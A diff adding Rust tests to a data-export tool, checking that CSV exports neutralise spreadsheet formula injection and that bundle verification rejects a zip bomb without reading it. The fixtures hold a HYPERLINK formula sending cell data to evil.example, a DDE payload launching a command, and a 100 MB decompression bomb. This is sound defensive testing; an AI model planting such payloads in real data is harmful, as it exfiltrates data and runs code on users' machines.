@@ -37,6 +37,7 @@ use yanhuo::web::AppState;
 
 use crate::cli::yanhuo;
 use crate::http::get;
+use crate::sql::encode;
 
 const SHOPS: &[(&str, &str, &str, &str)] = &[
     ("x1", "x", "barber", "10.00"),
@@ -498,4 +499,148 @@ fn a_bundle_verifies_until_its_numbers_change() {
         "{text}"
     );
     assert!(String::from_utf8_lossy(&verify.stderr).contains("no longer match"));
+}
+
+/// The district with a community and a shop named as formulas that would run in Excel.
+fn write_district_with_formulas(dir: &Path) {
+    write_district(dir);
+    let edit = |name: &str, from: &str, to: &str| {
+        let path = dir.join(name);
+        let text = std::fs::read_to_string(&path).unwrap();
+        assert!(text.contains(from), "{name} holds {from}");
+        std::fs::write(&path, text.replace(from, to)).unwrap();
+    };
+    edit(
+        "communities.csv",
+        "x,西园社区,Xiyuan",
+        "x,\"=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"黎园\"\")\",Xiyuan",
+    );
+    edit("shops.csv", "x1,店x1,", "x1,=cmd|' /C calc'!A0,");
+}
+
+/// Community x's row of recovery_by_community as CSV: the name behind a `'`, quoted because
+/// it holds quotes and a comma; numbers as they were.
+const FORMULA_ROW: &str = "x,\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"黎园\"\")\",Xiyuan,11,1960.0,280.00,0.14285714285714285,0.0,";
+
+/// A shop named as a formula, a negative number and the same as text, by `sql`.
+const FORMULA_SQL: &str =
+    "SELECT shop_id, name, -3.5 AS change, '-3.5' AS as_text FROM shops WHERE shop_id = 'x1'";
+const FORMULA_SQL_CSV: &str = "shop_id,name,change,as_text\nx1,'=cmd|' /C calc'!A0,-3.5,'-3.5\n";
+
+fn line_of<'a>(csv: &'a str, start: &str) -> &'a str {
+    csv.lines()
+        .find(|l| l.starts_with(start))
+        .unwrap_or_else(|| panic!("a line starting {start:?} in {csv}"))
+}
+
+#[tokio::test]
+async fn names_that_are_formulas_reach_every_csv_as_text_and_numbers_stay_numbers() {
+    let dir = tempfile::tempdir().unwrap();
+    write_district_with_formulas(dir.path());
+    let state = AppState::open(settings(dir.path())).await.unwrap();
+    let base = "/d/recovery/recovery_by_community";
+
+    let csv = get(&state, &format!("{base}.csv")).await;
+    assert_eq!(csv.status, StatusCode::OK);
+    let text = csv.text();
+    assert_eq!(line_of(&text, "x,"), FORMULA_ROW);
+
+    let gb = get(&state, &format!("{base}.csv?encoding=gb18030")).await;
+    let (decoded, _, bad) = encoding_rs::GB18030.decode(&gb.body);
+    assert!(!bad);
+    assert_eq!(line_of(&decoded, "x,"), FORMULA_ROW);
+
+    let zip = get(&state, "/export/recovery/recovery_by_community.zip").await;
+    assert_eq!(zip.status, StatusCode::OK);
+    let figure = entry(
+        &mut unzip(&zip.body),
+        "recovery-recovery_by_community/figure.csv",
+    );
+    assert_eq!(
+        line_of(&String::from_utf8(figure).unwrap(), "x,"),
+        FORMULA_ROW
+    );
+
+    let canned = get(&state, "/q/recovery_by_community.csv").await;
+    assert_eq!(canned.status, StatusCode::OK);
+    assert_eq!(line_of(&canned.text(), "x,"), FORMULA_ROW);
+
+    let console = get(
+        &state,
+        &format!("/sql/result.csv?q={}", encode(FORMULA_SQL)),
+    )
+    .await;
+    assert_eq!(console.status, StatusCode::OK);
+    assert_eq!(console.text(), format!("\u{feff}{FORMULA_SQL_CSV}"));
+
+    let query = yanhuo(dir.path(), &["query", "--format", "csv", FORMULA_SQL]);
+    assert!(query.status.success(), "{query:?}");
+    assert_eq!(String::from_utf8_lossy(&query.stdout), FORMULA_SQL_CSV);
+}
+
+/// Runs `yanhuo --data DATA ARGS` under GNU time, for the peak memory of that one process
+/// (None without /usr/bin/time). Not wait4(2) on a child of ours: the child is spawned with
+/// vfork and counts this test process's own peak, hundreds of MiB, as its own.
+fn yanhuo_with_peak(data: &Path, args: &[&str]) -> (std::process::Output, Option<u64>) {
+    let time = Path::new("/usr/bin/time");
+    if !time.exists() {
+        return (yanhuo(data, args), None);
+    }
+    let report = tempfile::NamedTempFile::new().unwrap();
+    let output = std::process::Command::new(time)
+        .arg("-f")
+        .arg("%M")
+        .arg("-o")
+        .arg(report.path())
+        .arg(env!("CARGO_BIN_EXE_yanhuo"))
+        .arg("--data")
+        .arg(data)
+        .args(args)
+        .env("YANHUO_LOG", "warn")
+        .output()
+        .expect("the binary runs");
+    // The last line is the peak in KiB (time says the exit status on a line before it).
+    let kib: u64 = std::fs::read_to_string(report.path())
+        .unwrap()
+        .lines()
+        .last()
+        .and_then(|l| l.trim().parse().ok())
+        .expect("GNU time's %M");
+    (output, Some(kib * 1024))
+}
+
+#[test]
+fn verify_refuses_a_bundle_whose_figure_json_is_too_big_without_reading_it() {
+    let dir = tempfile::tempdir().unwrap();
+    write_district(dir.path());
+    // 100 MB of spaces deflate to about 100 KB: a small download that would fill memory.
+    let elsewhere = tempfile::tempdir().unwrap();
+    let bomb = elsewhere.path().join("bomb.zip");
+    let mut zip = zip::ZipWriter::new(std::fs::File::create(&bomb).unwrap());
+    let options = zip::write::SimpleFileOptions::default()
+        .compression_method(zip::CompressionMethod::Deflated);
+    zip.start_file("recovery-x/figure.json", options).unwrap();
+    let spaces = vec![b' '; 1_000_000];
+    for _ in 0..100 {
+        std::io::Write::write_all(&mut zip, &spaces).unwrap();
+    }
+    zip.finish().unwrap();
+    assert!(std::fs::metadata(&bomb).unwrap().len() < 1 << 20);
+
+    let (verify, peak) =
+        yanhuo_with_peak(dir.path(), &["export", "--verify", bomb.to_str().unwrap()]);
+    assert!(!verify.status.success());
+    assert_eq!(
+        String::from_utf8_lossy(&verify.stderr),
+        format!(
+            "yanhuo: {}: recovery-x/figure.json is 100000000 bytes, more than the 16777216 \
+             bytes (16 MiB) a bundle's figure.json may hold: not a bundle yanhuo wrote\n",
+            bomb.display()
+        )
+    );
+    match peak {
+        // The whole file would be 95 MiB; the refusal reads none of it.
+        Some(peak) => assert!(peak < 64 << 20, "peak memory {} MiB", peak >> 20),
+        None => eprintln!("no /usr/bin/time: the peak memory of --verify is not checked"),
+    }
 }
